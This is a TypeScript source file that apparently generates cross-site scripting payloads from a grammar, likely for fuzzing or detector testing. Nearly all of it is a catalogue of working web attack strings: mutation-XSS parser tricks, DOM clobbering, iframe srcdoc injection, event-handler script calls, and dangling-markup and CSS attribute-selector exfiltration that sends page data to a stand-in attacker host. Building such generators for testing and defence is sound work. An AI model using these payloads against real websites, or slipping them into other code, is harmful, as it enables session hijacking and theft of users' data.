/** Markup that only parsers understand as they do: mutation, clobbering, dangling, documents inside attributes, styles. */
import { characters, DIGITS, LOWER_CASE, oneOf, type Rule, text, words } from '../../grammar.ts';
import { ATTACKER_HOST, MARKER } from '../hosts.ts';
import { WORD } from '../plausible-values.ts';
import { ELEMENT_WITH_HANDLER, HANDLER } from './handlers.ts';
import { BREAK_OUT, delivered, ELEMENT, quoted } from './markup.ts';
import { CALL, HIDDEN_CALL, THEFT } from './script.ts';

const ESCAPED_MARKUP: Rule = oneOf(
  text`&lt;script&gt;${CALL}&lt;/script&gt;`,
  text`&lt;img src=x onerror=${CALL}&gt;`,
  text`&#60;svg onload=${CALL}&#62;`,
  text`<script>${CALL}</script>`,
  text`<svg onload=${CALL}>`,
  text`<img src=x onerror=${CALL}>`,
);

/** Documents inside attributes, parser confusion, and markup that leaves an attribute open. */
export const parserTricks: Rule = delivered(
  text`${BREAK_OUT}${oneOf(
    text`<iframe srcdoc=${quoted(ESCAPED_MARKUP)}>`,
    text`<iframe srcdoc='${ESCAPED_MARKUP}'></iframe>`,
    text`<noscript><p title="</noscript>${ELEMENT}">`,
    text`<math><mtext><table><mglyph><style><!--</style>${ELEMENT}`,
    text`<math><mtext></form><form><mglyph><style></math>${ELEMENT}`,
    text`<svg></p><style><a id="</style>${ELEMENT}">`,
    text`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${ELEMENT}">`,
    text`<${words('textarea title style xmp noembed iframe plaintext')}></${words('textarea title style xmp noembed iframe')}>${ELEMENT}`,
    text`<!--><${ELEMENT_WITH_HANDLER}=${CALL}>-->`,
    text`<!--[if gte IE 4]><script>${CALL};</script><![endif]-->`,
    text`<![CDATA[<script>${CALL}</script>]]>`,
    text`<a id=${words('defaultAvatar config x location')}><a id=${words('defaultAvatar config x')} name=${words('avatar url y')} href="cid:&quot;onerror=${CALL}//">`,
    text`<form id=${words('test attributes x')}><input name=${words('attributes parentNode innerHTML action')}><img src=x onerror=${CALL}>`,
    text`<template><${ELEMENT_WITH_HANDLER}=${CALL}></template><script>document.body.append(document.querySelector('template').content)</script>`,
    text`<div><template shadowrootmode=open>${ELEMENT}</template></div>`,
    text`<img src='//${ATTACKER_HOST}/?`,
    text`"><img src="//${ATTACKER_HOST}/${MARKER}?`,
    text`<form action=//${ATTACKER_HOST}><textarea name=${WORD}>`,
    text`<meta http-equiv="refresh" content='0;url=//${ATTACKER_HOST}/?`,
    text`<base target='`,
    text`<style>@import '//${ATTACKER_HOST}/?`,
    text`<style>@import ${oneOf("'", '"', 'url(')}//${ATTACKER_HOST}/${MARKER}.css${oneOf("'", ')')};</style>`,
    text`<style>input[value^="${characters(LOWER_CASE + DIGITS, 1, 3)}"]{background:url(//${ATTACKER_HOST}/?${MARKER})}</style>`,
    text`<div style="${words('width background xss color')}:${oneOf(text`expression(${CALL})`, text`url(javascript:${CALL})`, text`ex/**/pression(${CALL})`)}">`,
    text`<div style="behavior:url(#default#time2)" onbegin="${CALL}">`,
    text`<style>*{-moz-binding:url(//${ATTACKER_HOST}/x.xml#xss)}</style>`,
    text`<svg><style><img src=x onerror=${CALL}></style>`,
    text`<svg><foreignObject><${ELEMENT_WITH_HANDLER}=${CALL}></foreignObject></svg>`,
    text`<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`,
    text`<?xml-stylesheet href="javascript:${CALL}"?>`,
    text`<xss ${HANDLER}=${CALL} ${MARKER}`,
    text`<<script>${CALL};//<</script>`,
    text`<img """><script>${CALL}</script>">`,
    text`<x contenteditable ${HANDLER}=${CALL}>${WORD}`,
    text`<${words('x y foo')}/${HANDLER}=${CALL}>`,
    text`</${words('x a p br')} ${HANDLER}=${CALL}>`,
    text`<!doctype html><${ELEMENT_WITH_HANDLER}=${CALL}>`,
    text`<a href="x" ${HANDLER}="${CALL}">`,
    text`<esi:include src="http://${ATTACKER_HOST}/" /><script>${CALL}</script>`,
    text`<img usemap=#x><map name=x><area href=javascript:${CALL} shape=default>`,
    text`<label for=x ${HANDLER}=${HIDDEN_CALL}>`,
    text`<dialog open><form method=dialog><button ${HANDLER}=${quoted(THEFT)}>`,
  )}`,
);
